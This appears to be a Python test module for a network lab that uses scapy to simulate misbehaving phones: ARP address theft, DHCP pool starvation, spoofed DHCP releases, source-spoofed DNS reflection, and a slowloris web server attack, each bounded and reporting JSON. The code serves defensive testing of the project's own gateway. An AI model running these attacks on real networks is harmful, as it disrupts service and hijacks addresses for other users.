"""Phones that misbehave, for the safety tests: frames built, sent and matched with scapy,
from inside a lab namespace (``ip netns exec NS python -m tests.netlab.attacks ...``, or
:func:`run`). Each attack prints one JSON line saying what it did and saw.

- ``garp``: claim an address with gratuitous ARP (a reply and a request, as address
  thieves send them), from any MAC.
- ``dhcp-flood``: DISCOVER with random MACs and REQUEST every address offered, as a
  pool-starving radio does, for a bounded time.
- ``stream``: UDP datagrams and TCP SYNs to one address and port, every few
  milliseconds, for a bounded time (what a phone trying to get out sends).
- ``dhcp-release``: a DHCPRELEASE (or, with ``--request``, an INIT-REBOOT REQUEST) for an
  address, speaking for any MAC (``--chaddr``, ``--client-id``) from any Ethernet source.
- ``spoof``: UDP (DNS by default) or a DHCP-port datagram from a source address that is
  not the sender's, to get the gateway to answer someone else.
- ``slowloris``: many TCP connections to a web server, each trickling its request header a
  line at a time and never ending it, for a bounded time; says how many it opened and how
  many the server had closed by the end.
"""

from __future__ import annotations

import argparse
import json
import random
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
BROADCAST = "ff:ff:ff:ff:ff:ff"


def run(lab: Any, ns: str, *args: str, timeout: float = 60) -> dict[str, Any]:
    """Run an attack in ``ns``; what it printed."""
    res = lab.sh(ns, [*_python(), *args], timeout=timeout, check=False)
    if res.returncode != 0:
        raise RuntimeError(f"attack {args[0]} failed: {res.stderr.decode(errors='replace')}")
    result: dict[str, Any] = json.loads(res.stdout.decode().strip().splitlines()[-1])
    return result


def spawn(lab: Any, ns: str, *args: str) -> subprocess.Popen[bytes]:
    """Start an attack in ``ns`` in the background (the lab stops it at the end)."""
    return lab.spawn(  # type: ignore[no-any-return]
        ns, [*_python(), *args], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    )


def _python() -> list[str]:
    return ["env", f"PYTHONPATH={ROOT}", sys.executable, "-m", "tests.netlab.attacks"]


def random_mac(rng: random.Random) -> str:
    """A locally administered unicast MAC, as phones randomise theirs."""
    first = (rng.randrange(256) & 0xFC) | 0x02
    return ":".join(f"{b:02x}" for b in (first, *(rng.randrange(256) for _ in range(5))))


def garp(iface: str, ip: str, mac: str, count: int) -> dict[str, Any]:
    from scapy.all import ARP, Ether, sendp

    reply = Ether(src=mac, dst=BROADCAST) / ARP(
        op="is-at", hwsrc=mac, psrc=ip, hwdst=BROADCAST, pdst=ip
    )
    request = Ether(src=mac, dst=BROADCAST) / ARP(op="who-has", hwsrc=mac, psrc=ip, pdst=ip)
    sendp([reply, request] * count, iface=iface, verbose=False)
    return {"sent": 2 * count}


def dhcp_flood(iface: str, seconds: float, most: int, seed: int) -> dict[str, Any]:
    from scapy.all import BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, conf, mac2str

    rng = random.Random(seed)
    clients: dict[int, str] = {}  # xid -> MAC
    acked: set[str] = set()
    out = conf.L2socket(iface=iface)

    def frame(mac: str, xid: int, options: list[Any]) -> Any:
        return (
            Ether(src=mac, dst=BROADCAST)
            / IP(src="0.0.0.0", dst="255.255.255.255")
            / UDP(sport=68, dport=67)
            / BOOTP(chaddr=mac2str(mac), xid=xid, flags=0x8000)
            / DHCP(options=[*options, "end"])
        )

    def answer(reply: Any) -> None:
        bootp = reply[BOOTP]
        mac = clients.get(bootp.xid)
        options = dict(o[:2] for o in reply[DHCP].options if isinstance(o, tuple))
        if mac is None:
            return
        if options.get("message-type") == 5:  # ACK
            acked.add(mac)
        elif options.get("message-type") == 2:  # OFFER: take it
            request = [
                ("message-type", "request"),
                ("requested_addr", bootp.yiaddr),
                ("server_id", options.get("server_id")),
            ]
            out.send(frame(mac, bootp.xid, request))

    sniffer = AsyncSniffer(
        iface=iface,
        lfilter=lambda p: UDP in p and p[UDP].dport == 68 and DHCP in p,
        prn=answer,
        store=False,
    )
    sniffer.start()
    time.sleep(0.5)
    sent, end = 0, time.monotonic() + seconds
    try:
        while time.monotonic() < end and sent < most:  # bounded by time and by count
            mac, xid = random_mac(rng), rng.randrange(1, 2**32)
            clients[xid] = mac
            out.send(frame(mac, xid, [("message-type", "discover")]))
            sent += 1
        time.sleep(2)  # the last offers and acks
    finally:
        sniffer.stop()
        out.close()
    return {"discovers": sent, "leases": len(acked)}


def stream(dst: str, port: int, seconds: float, every: float) -> dict[str, Any]:
    """UDP and TCP SYNs to ``dst``:``port`` from this namespace's own address."""
    from scapy.all import IP, TCP, UDP, conf

    sock = conf.L3socket()
    sent, end = 0, time.monotonic() + seconds
    try:
        while time.monotonic() < end:  # bounded by time
            sock.send(IP(dst=dst) / UDP(sport=40000 + sent % 1000, dport=port) / b"out")
            sock.send(IP(dst=dst) / TCP(sport=41000 + sent % 1000, dport=port, flags="S"))
            sent += 2
            time.sleep(every)
    finally:
        sock.close()
    return {"sent": sent}


def dhcp_message(
    iface: str,
    kind: str,
    address: str,
    chaddr: str,
    client_id: str | None,
    server: str,
    src: str,
) -> dict[str, Any]:
    from scapy.all import BOOTP, DHCP, IP, UDP, Ether, get_if_hwaddr, mac2str, sendp

    options: list[Any] = [("message-type", kind), ("server_id", server)]
    if kind == "request":
        options.append(("requested_addr", address))
    if client_id:
        options.append(("client_id", b"\x01" + mac2str(client_id)))
    bootp = BOOTP(
        chaddr=mac2str(chaddr),
        ciaddr=address if kind == "release" else "0.0.0.0",
        xid=random.randrange(1, 2**32),
        flags=0x8000,
    )
    sendp(
        Ether(src=get_if_hwaddr(iface), dst=BROADCAST)
        / IP(src=src, dst="255.255.255.255" if src == "0.0.0.0" else server)
        / UDP(sport=68, dport=67)
        / bootp
        / DHCP(options=[*options, "end"]),
        iface=iface,
        count=3,
        verbose=False,
    )
    return {"sent": 3}


def spoof(src: str, dst: str, sport: int, dport: int, count: int) -> dict[str, Any]:
    from scapy.all import DNS, DNSQR, IP, UDP, conf

    sock = conf.L3socket()
    try:
        for _ in range(count):  # bounded
            query = DNS(rd=1, qd=DNSQR(qname="reflect.example.id")) if dport == 53 else b"x" * 64
            sock.send(IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / query)
            time.sleep(0.01)
    finally:
        sock.close()
    return {"sent": count}


def slowloris(
    dst: str, port: int, connections: int, seconds: float, every: float
) -> dict[str, Any]:
    """``connections`` requests whose header never ends, one more line each ``every``."""
    import socket

    opened: list[socket.socket] = []
    refused = closed = 0
    for _ in range(connections):
        try:
            sock = socket.create_connection((dst, port), timeout=2)
            sock.sendall(b"GET / HTTP/1.1\r\nHost: wifi\r\n")
            opened.append(sock)
        except OSError:
            refused += 1
    end, n = time.monotonic() + seconds, 0
    try:
        while time.monotonic() < end and opened:  # bounded by time (or ended by SIGINT)
            time.sleep(every)
            n += 1
            for sock in list(opened):
                try:
                    sock.sendall(f"X-Slow-{n}: 1\r\n".encode())
                except OSError:
                    closed += 1
                    opened.remove(sock)
                    sock.close()
    except KeyboardInterrupt:
        pass
    for sock in opened:
        sock.close()
    return {"opened": connections - refused, "refused": refused, "closed_by_server": closed}


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m tests.netlab.attacks")
    sub = parser.add_subparsers(dest="attack", required=True)
    p = sub.add_parser("garp")
    p.add_argument("--iface", default="eth0")
    p.add_argument("--ip", required=True)
    p.add_argument("--mac", required=True)
    p.add_argument("--count", type=int, default=3)
    p = sub.add_parser("dhcp-flood")
    p.add_argument("--iface", default="eth0")
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--most", type=int, default=5000)
    p.add_argument("--seed", type=int, default=1)
    p = sub.add_parser("stream")
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--every", type=float, default=0.005)
    p = sub.add_parser("dhcp-release")
    p.add_argument("--iface", default="eth0")
    p.add_argument("--request", action="store_true", help="an INIT-REBOOT REQUEST instead")
    p.add_argument("--address", required=True)
    p.add_argument("--chaddr", required=True)
    p.add_argument("--client-id")
    p.add_argument("--server", required=True)
    p.add_argument("--src", default="0.0.0.0")
    p = sub.add_parser("spoof")
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--sport", type=int, default=40053)
    p.add_argument("--dport", type=int, default=53)
    p.add_argument("--count", type=int, default=20)
    p = sub.add_parser("slowloris")
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--connections", type=int, default=200)
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--every", type=float, default=2)
    args = parser.parse_args()
    if args.attack == "slowloris":
        out = slowloris(args.dst, args.port, args.connections, args.seconds, args.every)
    elif args.attack == "dhcp-release":
        kind = "request" if args.request else "release"
        out = dhcp_message(
            args.iface, kind, args.address, args.chaddr, args.client_id, args.server, args.src
        )
    elif args.attack == "spoof":
        out = spoof(args.src, args.dst, args.sport, args.dport, args.count)
    elif args.attack == "garp":
        out = garp(args.iface, args.ip, args.mac, args.count)
    elif args.attack == "dhcp-flood":
        out = dhcp_flood(args.iface, args.seconds, args.most, args.seed)
    else:
        out = stream(args.dst, args.port, args.seconds, args.every)
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
